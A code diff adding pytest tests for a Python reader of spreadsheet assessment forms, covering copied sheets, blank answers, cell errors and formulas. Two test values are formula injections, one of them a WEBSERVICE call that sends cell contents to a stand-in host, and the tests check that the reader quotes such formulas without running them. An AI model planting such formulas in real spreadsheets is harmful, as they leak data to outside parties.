+    assert (found.code, found.cell) == (Code.STRAY, f"Overall!{cell.coordinate}")
+    assert FORM.section(found.place.section) is not None
+
+
+def test_workbook_made_with_other_words_about_a_factor_is_read(cases: Cases) -> None:
+    factors = tuple(replace(factor, line=f"{factor.line} (2027)") for factor in INSTRUMENT.factors)
+    older = questions(replace(INSTRUMENT, factors=factors, edition="2027.1"))
+    assert [p.code for p in read(write_workbook(older, cases["medium_low"])).problems] == [Code.OTHER_EDITION]
+
+
+def test_sheet_that_was_copied_with_the_same_answers_is_no_matter(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    for name in lay_out(FORM):
+        book.copy_worksheet(book[name])
+    assert read(saved(book)).problems == ()
+
+
+def test_answer_in_either_of_two_copies_is_found(workbooks: Mapping[str, bytes], cases: Cases) -> None:
+    book = opened(workbooks["medium_low"])
+    copy = book.copy_worksheet(book["Overall"])
+    for _, row, column, _ in answer_cells(lay_out(FORM)["Overall"]):
+        book["Overall"].cell(row, column).value = None  # somebody went on in the copy
+    content = saved(book)
+    assert read(content).assessment == assemble(cases["medium_low"], FORM)[0]
+    assert find_answers(opened(content), FORM).cells[place_of("overall.level")].startswith(f"'{copy.title}'!")
+
+
+def test_question_that_two_copies_leave_blank_is_said_at_the_first(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    cell = answer(book, "overall.level")
+    cell.value = None
+    book.copy_worksheet(book["Overall"])
+    problems = [p for p in read(saved(book)).problems if p.code is Code.MISSING]
+    assert [p.cell for p in problems] == [f"Overall!{cell.coordinate}"]
+
+
+def test_keys_pasted_among_the_answers_do_not_mislead(cases: Cases) -> None:
+    """Somebody pastes our own key column into the answers of the smallest table."""
+    raw = dict(cases["medium_low"])
+    for number in range(1, 10):
+        raw[Place("restricted", f"X{number}", "relates_to")] = f"restricted.X{number + 1}"
+        raw[Place("restricted", f"X{number}", "text")] = f"restricted.X{number}"
+        raw[Place("restricted", f"X{number}", "why")] = "restricted"
+    reading = read(write_workbook(FORM, raw))
+    assert reading.problems == ()
+    assert reading.assessment == assemble(raw, FORM)[0]
+
+
+VALUES: tuple[tuple[str, Any, list[Code]], ...] = (
+    ("person.born", 25000, []),
+    ("person.born", datetime.fromisoformat("1968-05-14T09:30:00"), [Code.DATE_WITH_TIME]),
+    ("person.born", 3_000_000, [Code.IS_CELL_ERROR]),
+    ("factors.R1.rationale", 12, []),
+    ("factors.R1.rationale", "#N/A", [Code.IS_CELL_ERROR]),
+    ("factors.R1.rationale", '=HYPERLINK("https://example.org/")', [Code.IS_FORMULA]),
+    ("factors.R1.rating", True, [Code.NOT_A_CHOICE]),
+    ("rm2000.male", True, []),
+    ("review.visit_months", 5.5, [Code.NOT_A_NUMBER]),
+    ("review.visit_months", datetime.fromisoformat("2026-01-06"), [Code.NOT_A_NUMBER]),
+)
+
+
+@pytest.mark.parametrize(("key", "value", "codes"), VALUES)
+def test_cell_is_read_as_it_really_arrives(
+    key: str, value: object, codes: list[Code], workbooks: Mapping[str, bytes]
+) -> None:
+    book = opened(workbooks["medium_low"])
+    answer(book, key).value = value  # type: ignore[assignment]
+    problems = read(saved(book)).problems
+    assert [(p.code, str(p.place)) for p in problems] == [(code, key) for code in codes]
+
+
+def test_problem_for_a_formula_quotes_it_and_does_not_run_it(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    answer(book, "factors.R1.rationale").value = '=WEBSERVICE("https://example.org/"&A1)'
+    (problem,) = read(saved(book)).problems
+    assert problem.found == '=WEBSERVICE("https://example.org/"&A1)'
+    assert FORM_HEADS[1] not in problem.message
+
+
+def test_form_is_the_one_that_the_instrument_makes(form: Form) -> None:
+    assert form is FORM
